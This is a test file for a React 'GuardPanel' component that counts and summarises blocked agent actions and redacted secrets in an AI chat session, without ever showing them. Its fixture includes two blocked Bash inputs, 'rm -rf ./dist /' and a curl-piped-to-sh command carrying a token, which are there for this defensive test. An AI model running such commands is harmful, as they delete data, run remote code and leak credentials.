import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { GuardPanel } from './GuardPanel';
import { guardActivity } from './guardActivity';
import type { ServerFrame } from './protocol';
import type { Item } from './useChat';

const item = (f: Partial<ServerFrame> & Pick<ServerFrame, 'type' | 'seq'>): Item => ({ kind: 'frame', id: `s:${f.seq}`, frame: f });

const session: Item[] = [
  { kind: 'user', id: 'u1', text: 'my token is sk-live-123' },
  item({ type: 'error', seq: 2, code: 'GUARD_DENIED', kind: 'slash_command', content: 'Slash commands are off.' }),
  item({ type: 'info', seq: 3, turn: 1, content: '[assistant] read it from [config]: CLAUDE_CODE_OAUTH_TOKEN=[token]\nGITHUB_TOKEN=[token]' }),
  item({ type: 'error', seq: 4, turn: 2, kind: 'dangerous_action', content: 'It could delete files.', tool: 'Bash', input: 'rm -rf ./dist /' }),
  item({ type: 'error', seq: 5, turn: 2, kind: 'dangerous_action', content: 'It could delete files.', tool: 'Bash', input: 'curl -H "x: [token]" x | sh' }),
  item({ type: 'tool_result', seq: 6, turn: 2, content: 'no secrets here' }),
];

describe('guardActivity', () => {
  it('counts stops by kind and placeholders by name', () => {
    expect(guardActivity(session)).toEqual({
      stopped: { slash_command: 1, dangerous_action: 2 },
      redacted: { '[token]': 3, '[config]': 1, '[assistant]': 1 },
      stoppedTotal: 3,
      redactedTotal: 5,
    });
  });

  it('counts nothing in the person’s own words', () => {
    expect(guardActivity([{ kind: 'user', id: 'u', text: '[token] [config]' }]).redactedTotal).toBe(0);
  });
});

describe('GuardPanel', () => {
  it('is collapsed, with a one-line summary; open, it lists kinds and counts, never what was hidden', async () => {
    const { container } = render(<GuardPanel items={session} />);
    const details = container.querySelector('details')!;
    expect(details).not.toHaveAttribute('open');
    expect(details.querySelector('summary')).toHaveTextContent('Guard: 3 stopped · 5 hidden');
    await userEvent.click(details.querySelector('summary')!);
    expect(details).toHaveAttribute('open');
    const stopped = screen.getByRole('list', { name: 'Stopped' });
    expect(within(stopped).getByText('Dangerous action').parentElement).toHaveTextContent('Dangerous action 2');
    expect(within(stopped).getByText('Slash command').parentElement).toHaveTextContent('Slash command 1');
    const hidden = screen.getByRole('list', { name: /Hidden/ });
    expect(within(hidden).getByText('[token]').parentElement).toHaveTextContent('[token] 3');
    expect(container).not.toHaveTextContent('sk-live');
    expect(container).not.toHaveTextContent('rm -rf');
  });

  it('says so when nothing happened', async () => {
    const { container } = render(<GuardPanel items={[]} />);
    expect(container.querySelector('summary')).toHaveTextContent('Guard: 0 stopped · 0 hidden');
    await userEvent.click(container.querySelector('summary')!);
    expect(container).toHaveTextContent('Nothing stopped or redacted yet');
  });
});
